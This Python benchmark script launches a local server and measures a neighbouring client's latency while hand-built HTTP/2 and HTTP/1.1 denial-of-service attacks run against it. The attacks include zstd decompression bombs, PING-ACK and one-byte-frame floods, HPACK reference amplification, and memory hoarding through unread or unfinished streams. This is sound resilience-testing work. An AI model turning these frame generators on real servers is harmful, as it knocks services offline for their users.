"""HTTP/2 connections that do what only an attacker does, a well-behaved neighbour beside them, and what the neighbour waits.

Frames are written by hand, as fast as Python can repeat prepared bytes: an attack costs its sender next to nothing.
"""

import contextlib
import itertools
import multiprocessing
import pathlib
import socket
import struct
import sys
import tempfile
import threading
import time

sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "kit/python"))

from kit.servers import Quire, stopping  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_STREAM, ACK, END_HEADERS, PRIORITY = 1, 1, 4, 32
# What one turn of an attacker sends.
BATCH_BYTES = 60_000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def fields(*pairs):
    """A header block of plain literals, which leave the table alone."""
    return b"".join(
        b"\x00" + bytes([len(part)]) + name + bytes([len(value)]) + value
        for name, value in pairs for part in [name])


def call_head(path, *more):
    return fields((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
                  (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)


def get_head(path):
    return fields((b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"))


def message(body, compressed=False):
    return struct.pack(">BI", compressed, len(body)) + body


def connect(address, window=1 << 24):
    """A connection that has begun HTTP/2, with this window for each stream; `None` for one that has not."""
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if window is None:
        return sock
    # SETTINGS_INITIAL_WINDOW_SIZE, and as much for the connection.
    start = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + frame(SETTINGS, ACK, 0)
    sock.sendall(start + (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)) if window else b""))
    return sock


LOOKUP = b"/bookstore.BookStore/Lookup"
BOOK = message(b"\x08\xe5\xa1\x03")


def zeros_in_zstd(length):
    """A frame of Zstandard (RFC 8878): blocks that each repeat one byte 128 KiB times."""
    block = 128 * 1024
    header = bytes.fromhex("28b52ffd") + bytes([0xA0]) + struct.pack("<I", length)
    blocks = [struct.pack("<I", block << 3 | 1 << 1 | (at + block >= length))[:3] + b"\0" for at in range(0, length, block)]
    return header + b"".join(blocks)


def batches(one):
    """Bytes of `one(stream)` for stream after stream, about as many as a read takes."""
    streams = itertools.count(1, 2)
    while True:
        batch = bytearray()
        while len(batch) < BATCH_BYTES:
            batch += one(next(streams))
        yield bytes(batch)


def zstd_bombs():
    """Messages of 142 bytes that each hold 4 MiB."""
    head = call_head(LOOKUP, (b"grpc-encoding", b"zstd"))
    bomb = message(zeros_in_zstd(4 << 20), True)
    return batches(lambda stream: frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, bomb))


def ping_acks():
    """Answers to pings that no one has sent."""
    yield from itertools.repeat(frame(PING, ACK, 0, bytes(8)) * (BATCH_BYTES // 17))


def headers_after_reset():
    """A stream that depends on itself is reset; then heads for it, again and again."""
    head = call_head(LOOKUP)
    yield frame(HEADERS, END_HEADERS | PRIORITY, 1, struct.pack(">IB", 1, 0) + head)
    yield from itertools.repeat(frame(HEADERS, END_HEADERS, 1, head) * (BATCH_BYTES // len(head)))


def data_of_one_byte():
    """One message, a byte a frame."""
    yield frame(HEADERS, END_HEADERS, 1, call_head(LOOKUP)) + frame(DATA, 0, 1, struct.pack(">BI", 0, 4_000_000))
    for count in itertools.count(1):
        # A message never ends: the stream is given up before, and the next one is begun.
        stream = 1 + 2 * (count // 600)
        start = b"" if count % 600 else (frame(RST_STREAM, 0, stream - 2, struct.pack(">I", 8)) + frame(
            HEADERS, END_HEADERS, stream, call_head(LOOKUP)) + frame(DATA, 0, stream, struct.pack(">BI", 0, 4_000_000)))
        yield start + frame(DATA, 0, stream, b"x") * (BATCH_BYTES // 10)


def hpack_references():
    """A field of 3,900 bytes in the table, named 16,000 times by each request."""
    large = b"\x40\x01x\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"y" * 3900
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, get_head(b"/") + large)
    references = get_head(b"/") + b"\xbe" * 16_000
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, references)


def window_updates_of_one():
    """Large answers, read a byte at a time."""
    streams = range(1, 41, 2)
    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, get_head(b"/openapi.json")) for stream in streams)
    yield from itertools.repeat(
        b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams) * (BATCH_BYTES // 260))


def zstd_bombs_over_http1():
    """As `zstd_bombs`, pipelined over HTTP/1.1."""
    bomb = zeros_in_zstd(4 << 20)
    head = (b"POST /bookstore.BookStore/Lookup HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/proto\r\n"
            b"content-encoding: zstd\r\ncontent-length: %d\r\n\r\n" % len(bomb))
    yield from itertools.repeat((head + bomb) * (BATCH_BYTES // len(head + bomb)))


KEY = b"pinned"
# Values and pages that are large, but no larger than a server allows.
VALUE_BYTES = 1_000_000
ROWS, ROW_BYTES = 5_000, 700


def field(number, data):
    """A field of protobuf with bytes in it."""
    length, size = len(data), b""
    while length > 127:
        size, length = size + bytes([length & 127 | 128]), length >> 7
    return bytes([number << 3 | 2]) + size + bytes([length]) + data


def unread_pages():
    """Requests of a hundred bytes whose answers have megabytes, and no window for any."""
    head = get_head(b"/search?headerKey=kind&headerValue=large")
    for stream in range(1, 500, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head)


def unread_pages_over_http1():
    yield b"GET /search?headerKey=kind&headerValue=large HTTP/1.1\r\nhost: localhost\r\n\r\n"


def unread_values():
    """A value asked for again and again, and never read."""
    head = call_head(b"/io.grpc.KeyValueService/Retrieve")
    ask = message(field(1, KEY))
    for stream in range(1, 500, 2):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, ask)


def unfinished_messages():
    """Messages of which the last byte never comes."""
    head = call_head(b"/io.grpc.KeyRangeService/Put")
    part = b"x" * 16_000
    for stream in range(1, 33, 2):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, struct.pack(">BI", 0, 4_000_000))
        for _ in range(249):
            yield frame(DATA, 0, stream, part)


def unfinished_message_over_http1():
    head = (b"POST /io.grpc.KeyRangeService/Put HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/proto\r\n"
            b"content-length: 4000000\r\n\r\n")
    yield head
    for _ in range(249):
        yield b"x" * 16_000


# What makes a server hold memory, the window that its streams give, and over how many connections.
HOARDS = {
    unread_pages: (0, 40),
    unread_pages_over_http1: (None, 400),
    unread_values: (0, 40),
    unfinished_messages: (1 << 24, 40),
    unfinished_message_over_http1: (None, 400),
}


def hoard(address, hoarder):
    """Opens the connections and sends all that is to be held; the sockets stay open and unread."""
    window, connections = HOARDS[hoarder]
    sockets = []
    for _ in range(connections):
        sock = connect(address, window)
        sock.settimeout(0.5)
        sockets.append(sock)
        with contextlib.suppress(OSError):
            for part in hoarder():
                sock.sendall(part)
    return sockets


def put_value(address):
    """Writes the value that `unread_values` asks for."""
    body = message(field(1, KEY) + field(2, b"v" * VALUE_BYTES))
    frames = [frame(HEADERS, END_HEADERS, 1, call_head(b"/io.grpc.KeyRangeService/Put"))]
    for at in range(0, len(body), 16_000):
        frames.append(frame(DATA, END_STREAM * (at + 16_000 >= len(body)), 1, body[at:at + 16_000]))
    with connect(address) as sock, sock.makefile("rb") as stream:
        sock.sendall(b"".join(frames))
        kind, flags, of, _ = read_frame(stream)
        while of != 1 or not flags & END_STREAM:
            kind, flags, of, _ = read_frame(stream)


def large_rows():
    """A file of records whose pages are large."""
    rows = (f"{kind},{'y' * ROW_BYTES}" for _ in range(ROWS) for kind in ["large", "other"])
    return "kind,filler\n" + "\n".join(rows) + "\n"


def resident_bytes(process):
    pages = pathlib.Path(f"/proc/{process.pid}/statm").read_text().split()[1]
    return int(pages) * 4096


def drain(sock):
    with contextlib.suppress(OSError):
        while sock.recv(1 << 20):
            pass


def attack(address, attacker, window, until, connections):
    """Repeats an attack until the time is up; a connection that the server ends is followed by another."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(address, window) as sock:
            connections.value += 1
            sock.settimeout(max(0.01, until - time.monotonic()))
            threading.Thread(target=drain, args=[sock], daemon=True).start()
            for batch in attacker():
                sock.sendall(batch)
                if time.monotonic() > until:
                    break


# Each attack, and the window that its streams give; `None` is for connections that are not HTTP/2.
ATTACKS = {
    zstd_bombs: 1 << 24,
    zstd_bombs_over_http1: None,
    ping_acks: 1 << 24,
    headers_after_reset: 1 << 24,
    data_of_one_byte: 1 << 24,
    hpack_references: 1 << 24,
    window_updates_of_one: 0,
}
# Those that are nothing but a flood: the server ends the connection.
FLOODS = [ping_acks, headers_after_reset, data_of_one_byte, window_updates_of_one]


def spin(until):
    while time.monotonic() < until:
        pass


class Attack:
    """Four processes that attack at once, each over a connection of its own; or two that only keep the machine busy."""

    def __init__(self, address, attacker, seconds):
        until = time.monotonic() + seconds
        self.connections = multiprocessing.Value("i", 0)
        if attacker is spin:
            self.processes = [multiprocessing.Process(target=spin, args=[until]) for _ in range(2)]
        else:
            arguments = [address, attacker, ATTACKS[attacker], until, self.connections]
            self.processes = [multiprocessing.Process(target=attack, args=arguments) for _ in range(4)]

    def __enter__(self):
        for process in self.processes:
            process.start()
        return self

    def __exit__(self, *_):
        for process in self.processes:
            process.join(timeout=10)
            if process.is_alive():
                process.kill()


def read_frame(stream):
    head = stream.read(9)
    if len(head) < 9:
        raise ConnectionError("the server closed the connection")
    length = int.from_bytes(head[:3])
    return head[3], head[4], int.from_bytes(head[5:]) & 0x7FFF_FFFF, stream.read(length)


def neighbour(address, seconds, pause=0.005):
    """Looks a book up every few milliseconds and returns the seconds that each answer took, in order of size. An answer
    without a message is a refusal, and fails."""
    waited = []
    with connect(address) as sock, sock.makefile("rb") as stream:
        sock.settimeout(30)
        until = time.monotonic() + seconds
        for number in itertools.count(1, 2):
            asked = time.monotonic()
            if asked > until:
                break
            sock.sendall(frame(HEADERS, END_HEADERS, number, call_head(LOOKUP)) + frame(DATA, END_STREAM, number, BOOK))
            answered = False
            while True:
                kind, flags, of, payload = read_frame(stream)
                if kind == PING and not flags & ACK:
                    sock.sendall(frame(PING, ACK, 0, payload))
                answered |= of == number and kind == DATA
                if of == number and flags & END_STREAM:
                    break
            assert answered, "the neighbour is refused"
            waited.append(time.monotonic() - asked)
            time.sleep(pause)
    return sorted(waited)


def percentile(waited, share):
    return waited[min(len(waited) - 1, int(len(waited) * share))]


def measure(address, attacker, seconds):
    """What a neighbour waits under an attack, and how many connections the attack took."""
    with Attack(address, attacker, seconds + 1) as running:
        time.sleep(0.5)
        waited = neighbour(address, seconds)
    return waited, running.connections.value


def main(binary):
    """Prints a table: a neighbour's waits beside two busy loops, and under each attack."""
    with tempfile.TemporaryDirectory() as folder:
        server = Quire(binary, pathlib.Path(folder), settings=["server.threads=1", "tasks.enabled=false", "rpcgame.enabled=false"])
        server.serve()
        with stopping(server):
            print("| attack | neighbour's p50 | p99 | longest |\n|---|---|---|---|")
            for attacker in [spin, *ATTACKS]:
                waited, _ = measure(server.address, attacker, 5)
                name = "none, beside two busy loops" if attacker is spin else attacker.__name__.replace("_", " ")
                figures = (f"{1000 * value:.1f} ms" for value in
                           [percentile(waited, 0.5), percentile(waited, 0.99), waited[-1]])
                print(f"| {name} | {' | '.join(figures)} |", flush=True)


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]).absolute())
